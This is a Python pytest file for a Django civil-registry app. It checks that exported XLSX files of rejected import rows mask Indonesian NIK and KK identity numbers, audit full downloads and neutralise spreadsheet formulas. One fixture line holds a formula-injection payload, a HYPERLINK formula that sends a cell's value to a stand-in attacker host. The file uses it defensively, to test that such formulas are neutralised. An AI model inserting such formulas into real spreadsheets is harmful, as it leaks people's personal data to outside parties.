"""The rejected rows' XLSX: NIK and KK masked unless the user may see them (full files audited), formulas
neutralised, and the full file still fixes and uploads again."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from betang.core.models import AuditEvent
from betang.registry.services.exports import mask_identifier_cell, rejected_rows_xlsx
from tests.registry.conftest import FAMILY, HEADERS, csv_bytes

pytestmark = pytest.mark.django_db

BAD_DATE = ["6203015203900015", "Rina Wati", "31/02/1990", "P", "6203010101200001", "Anak", "62.03.01.1006", "", "", ""]
# A malformed NIK (spaces, 17 digits) and a KK with a letter: rejected, and still identifying.
BAD_NIK = ["6203 0155 0582 00021", "Sari", "01/01/1990", "P", "62030101012OO001", "Anak", "62.03.01.1006", "", "", ""]
ATTACK = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'
FORMULA = ["6203015203900016", ATTACK, "31/02/1990", "P", "6203010101200001", "Anak", "62.03.01.1006", "", "", ""]


def _table(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return sheet, [list(r) for r in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    ("cell", "masked"),
    [
        ("6203015203900015", "6203••••••••0015"),
        ("6203 0155 0582 00021", "6203•••••••••0021"),
        ("6.20301E+15", "••••••••"),
        ("62030101", "••••••••"),
        ("", ""),
        ("tidak ada", "tidak ada"),
    ],
)
def test_an_identifier_cell_is_masked_whatever_its_shape(cell, masked):
    assert mask_identifier_cell(cell) == masked


def test_rejected_rows_mask_nik_and_kk_without_the_full_nik_right(run_import):
    batch, _ = run_import(csv_bytes([*FAMILY, BAD_DATE, BAD_NIK]))
    _, table = _table(rejected_rows_xlsx(batch, full=False))
    assert [r[0] for r in table[1:]] == ["6203••••••••0015", "6203•••••••••0021"]
    assert [r[4] for r in table[1:]] == ["6203••••••••0001", "6203••••••2001"]
    assert "6203015203900015" not in str(table)
    assert "6203010101200001" not in str(table)
    assert table[1][1] == "Rina Wati"  # the rest of the row is as uploaded


def test_rejected_rows_are_full_for_the_full_nik_right_and_fix_and_upload_again(run_import):
    batch, _ = run_import(csv_bytes([*FAMILY, BAD_DATE]))
    _, table = _table(rejected_rows_xlsx(batch, full=True))
    assert table[1][0] == "6203015203900015"
    assert table[1][4] == "6203010101200001"
    table[1][2] = "12/03/1990"
    from openpyxl import Workbook

    fixed = Workbook()
    for row in table:
        fixed.active.append(row)
    out = io.BytesIO()
    fixed.save(out)
    _, counts = run_import(out.getvalue(), name="perbaikan.xlsx")
    assert (counts["CREATED"], counts["REJECTED"]) == (1, 0)


def test_rejected_rows_never_carry_a_live_formula(run_import):
    batch, _ = run_import(csv_bytes([*FAMILY, FORMULA], headers=[*HEADERS[:-1], "=1+1"]))
    sheet, table = _table(rejected_rows_xlsx(batch, full=True))
    assert table[1][1] == "'" + ATTACK
    assert sheet["B2"].data_type == "s"
    assert table[0][len(HEADERS) - 1] == "'=1+1"


def test_the_rejects_page_masks_for_a_role_without_the_full_nik_right(client, make_user, run_import, now):
    enterprise = ["Warung Sari", "", "Sari", "6203015203900015", "", "abc", "", "62.03.01.9999", ""]
    headers = ["Nama Usaha", "NIB", "Nama Pemilik", "NIK Pemilik", "KBLI", "Modal Usaha", "Omzet", "Kode Desa", "HP"]
    batch, counts = run_import(csv_bytes([enterprise], headers=headers), kind="enterprises")
    assert counts["REJECTED"] == 1
    batch.scope_region_code = "62.03"
    batch.save(update_fields=["scope_region_code"])
    fund_officer = make_user(role="FUND_OFFICER", scope="62")
    client.force_login(fund_officer)
    response = client.get(reverse("registry:import_rejects", args=[batch.pk]))
    assert response.status_code == 200
    _, table = _table(response.content)
    assert table[1][3] == "6203••••••••0015"
    assert not AuditEvent.objects.filter(event="registry.import.rejects_exported").exists()


def test_a_full_rejects_download_is_audited(client, kapuas_officer, run_import):
    batch, _ = run_import(csv_bytes([*FAMILY, BAD_DATE]))
    batch.scope_region_code = "62.03"
    batch.save(update_fields=["scope_region_code"])
    client.force_login(kapuas_officer)
    response = client.get(reverse("registry:import_rejects", args=[batch.pk]))
    _, table = _table(response.content)
    assert table[1][0] == "6203015203900015"
    event = AuditEvent.objects.get(event="registry.import.rejects_exported")
    assert (event.actor, event.object_id) == (kapuas_officer, str(batch.pk))
